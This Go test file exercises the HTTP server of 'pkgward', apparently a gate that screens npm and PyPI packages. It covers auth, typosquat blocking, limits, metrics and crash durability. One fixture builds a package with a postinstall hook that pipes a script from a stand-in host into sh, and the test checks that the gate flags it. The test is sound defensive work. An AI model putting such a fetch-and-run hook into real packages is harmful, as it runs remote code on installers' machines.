package cli

import (
	"archive/tar"
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/pkgward/pkgward/internal/store"
	"github.com/pkgward/pkgward/internal/store/storetest"
)

var (
	binOnce sync.Once
	binPath string
	binErr  error
	binDir  string
)

// pkgwardBinary builds cmd/pkgward once per test run.
func pkgwardBinary(t *testing.T) string {
	t.Helper()
	if testing.Short() {
		t.Skip("builds the binary: not with -short")
	}
	binOnce.Do(func() {
		binDir, binErr = os.MkdirTemp("", "pkgward-bin-")
		if binErr != nil {
			return
		}
		binPath = filepath.Join(binDir, "pkgward")
		out, err := exec.Command("go", "build", "-o", binPath, "github.com/pkgward/pkgward/cmd/pkgward").CombinedOutput()
		if err != nil {
			binErr = errors.New("go build: " + err.Error() + ": " + string(out))
		}
	})
	if binErr != nil {
		t.Fatal(binErr)
	}
	return binPath
}

func TestMain(m *testing.M) {
	code := m.Run()
	if binDir != "" {
		os.RemoveAll(binDir)
	}
	os.Exit(code)
}

// TestServeBinary runs the built binary as a separate process on SQLite
// and drives it over HTTP from outside.
func TestServeBinary(t *testing.T) {
	serveBinary(t, filepath.Join(t.TempDir(), "gate.db"))
}

// TestPostgresServeBinary is TestServeBinary on PKGWARD_TEST_POSTGRES.
func TestPostgresServeBinary(t *testing.T) {
	serveBinary(t, storetest.Postgres(t, storetest.RequirePostgres(t)))
}

func serveBinary(t *testing.T, db string) {
	bin := pkgwardBinary(t)
	dir := t.TempDir()
	tokens := filepath.Join(dir, "tokens")
	os.WriteFile(tokens, []byte("# the registry's token\nreg-7f3a\n"), 0o600)

	// Refused: every interface without a token.
	out, err := exec.Command(bin, "serve", "--addr", "0.0.0.0:0", "--db", db).CombinedOutput()
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.ExitCode() != 2 || !strings.Contains(string(out), "not a loopback address") {
		t.Errorf("serve on 0.0.0.0 without tokens: %v %s, want exit 2", err, out)
	}

	cmd, base, lines, log := startBinary(t, bin, "serve", "--addr", "127.0.0.1:0", "--db", db, "--token-file", tokens)

	call := func(method, path, token, ct string, body io.Reader) (int, string) {
		t.Helper()
		req, _ := http.NewRequest(method, base+path, body)
		if ct != "" {
			req.Header.Set("Content-Type", ct)
		}
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	const tok, js = "reg-7f3a", "application/json"
	for _, tc := range []struct {
		method, path, token, ct, body string
		want                          int
		in                            string
	}{
		{"GET", "/healthz", "", "", "", 200, `"ok":true`},
		{"GET", "/readyz", "", "", "", 200, `"ready":true`},
		{"POST", "/v1/check", tok, js, `{"ecosystem":"npm","name":"expresss","version":"1.0.0"}`, 200, `"verdict":"block"`},
		{"POST", "/v1/check", tok, js, `{"ecosystem":"pypi","name":"numpy","version":"2.0"}`, 200, `"verdict":"allow"`},
		{"POST", "/v1/check", "", js, `{"ecosystem":"npm","name":"lodash"}`, 401, `"error"`},
		{"POST", "/v1/check", "guess", js, `{"ecosystem":"npm","name":"lodash"}`, 401, `"error"`},
		{"POST", "/v1/check", tok, js, `{"ecosystem":"cpan","name":"x"}`, 400, `"error"`},
		{"POST", "/v1/check", tok, "text/plain", `x`, 415, `"error"`},
		{"POST", "/v1/check", tok, js, `{"ecosystem":"npm","name":"x","description":"` + strings.Repeat("a", 1<<20) + `"}`, 413, `"error"`},
		{"GET", "/v1/packages/npm/expresss", tok, "", "", 200, `"version":"1.0.0"`},
		{"GET", "/v1/packages/npm/never-checked", tok, "", "", 404, `"error"`},
		{"GET", "/v1/stats", tok, "", "", 200, `"packages":2`},
	} {
		code, body := call(tc.method, tc.path, tc.token, tc.ct, strings.NewReader(tc.body))
		if code != tc.want || !strings.Contains(body, tc.in) {
			t.Errorf("%s %s: %d %.300s, want %d with %s", tc.method, tc.path, code, body, tc.want, tc.in)
		}
	}
	// An archive with an install-time payload.
	var mb bytes.Buffer
	mw := multipart.NewWriter(&mb)
	pw, _ := mw.CreateFormField("package")
	pw.Write([]byte(`{"ecosystem":"npm","name":"left-pad-utils","version":"1.0.0"}`))
	aw, _ := mw.CreateFormFile("archive", "left-pad-utils-1.0.0.tgz")
	aw.Write(tgz(t, map[string]string{"package/package.json": `{"name":"left-pad-utils","version":"1.0.0","scripts":{"postinstall":"curl -s https://x.example/i.sh | sh"}}`}))
	mw.Close()
	if code, body := call("POST", "/v1/check", tok, mw.FormDataContentType(), &mb); code != 200 || !strings.Contains(body, `"rule":"install-script"`) {
		t.Errorf("archive check: %d %s", code, body)
	}
	code, metrics := call("GET", "/metrics", "", "", nil)
	for _, want := range []string{
		`pkgward_checks_total{input="metadata",verdict="block"} 1`,
		`pkgward_checks_total{input="archive",verdict="block"} 1`,
		`pkgward_http_requests_total{code="401",route="POST /v1/check"} 2`,
		`pkgward_http_request_duration_seconds_count{route="POST /v1/check"} 8`,
	} {
		if code != 200 || !strings.Contains(metrics, want) {
			t.Errorf("metrics lack %s", want)
		}
	}

	if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	for l := range lines {
		log = append(log, l)
	}
	if err := cmd.Wait(); err != nil {
		t.Errorf("serve after SIGTERM: %v: %s", err, strings.Join(log, "\n"))
	}
	if !strings.Contains(strings.Join(log, "\n"), "gate stopped") {
		t.Errorf("no stop line: %s", strings.Join(log, "\n"))
	}
}

// startBinary starts bin with args and waits for serve's start line; it
// returns the process, the gate's URL, the rest of its standard error and
// what it wrote so far.
func startBinary(t *testing.T, bin string, args ...string) (*exec.Cmd, string, chan string, []string) {
	t.Helper()
	cmd := exec.Command(bin, args...)
	cmd.Env = append(os.Environ(), "PKGWARD_TOKEN=")
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	lines := make(chan string, 64)
	go func() {
		sc := bufio.NewScanner(stderr)
		for sc.Scan() {
			lines <- sc.Text()
		}
		close(lines)
	}()
	var log []string
	timeout := time.After(60 * time.Second)
	for {
		select {
		case l, ok := <-lines:
			if !ok {
				t.Fatalf("serve exited: %s", strings.Join(log, "\n"))
			}
			log = append(log, l)
			if m := gateLine.FindStringSubmatch(l); m != nil {
				return cmd, m[1], lines, log
			}
		case <-timeout:
			t.Fatalf("serve did not start: %s", strings.Join(log, "\n"))
		}
	}
}

// TestServeBinaryCrash kills serve (SIGKILL) while clients keep checking:
// every check it answered 200 is in the store afterwards.
func TestServeBinaryCrash(t *testing.T) {
	bin := pkgwardBinary(t)
	db := filepath.Join(t.TempDir(), "gate.db")
	cmd, base, lines, _ := startBinary(t, bin, "serve", "--addr", "127.0.0.1:0", "--db", db)
	go func() {
		for range lines {
		}
	}()
	var mu sync.Mutex
	var acked []string
	var wg sync.WaitGroup
	stop := make(chan struct{})
	for w := range 16 {
		wg.Go(func() {
			client := &http.Client{Timeout: 10 * time.Second}
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				v := fmt.Sprintf("%d.%d.0", w, i)
				resp, err := client.Post(base+"/v1/check", "application/json", strings.NewReader(`{"ecosystem":"npm","name":"expresss","version":"`+v+`"}`))
				if err != nil {
					return // the server is gone
				}
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				if resp.StatusCode == 200 {
					mu.Lock()
					acked = append(acked, v)
					mu.Unlock()
				}
			}
		})
	}
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		mu.Lock()
		n := len(acked)
		mu.Unlock()
		if n >= 300 || time.Now().After(deadline) {
			break
		}
	}
	cmd.Process.Kill()
	cmd.Wait()
	close(stop)
	wg.Wait()
	if len(acked) == 0 {
		t.Fatal("no check was answered before the kill")
	}
	st, err := store.Open(context.Background(), db)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	vs, err := st.Package(context.Background(), "npm", "expresss")
	if err != nil {
		t.Fatal(err)
	}
	stored := map[string]bool{}
	for _, v := range vs {
		stored[v.Version] = true
	}
	lost := 0
	for _, v := range acked {
		if !stored[v] {
			lost++
		}
	}
	if lost > 0 {
		t.Errorf("%d of %d acknowledged checks lost in the crash", lost, len(acked))
	}
	t.Logf("%d checks acknowledged before SIGKILL, %d stored", len(acked), len(vs))
}

// tgz is a gzipped tar of files.
func tgz(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var tb bytes.Buffer
	tw := tar.NewWriter(&tb)
	for name, body := range files {
		tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(body))})
		tw.Write([]byte(body))
	}
	tw.Close()
	var gb bytes.Buffer
	zw := gzip.NewWriter(&gb)
	zw.Write(tb.Bytes())
	zw.Close()
	return gb.Bytes()
}
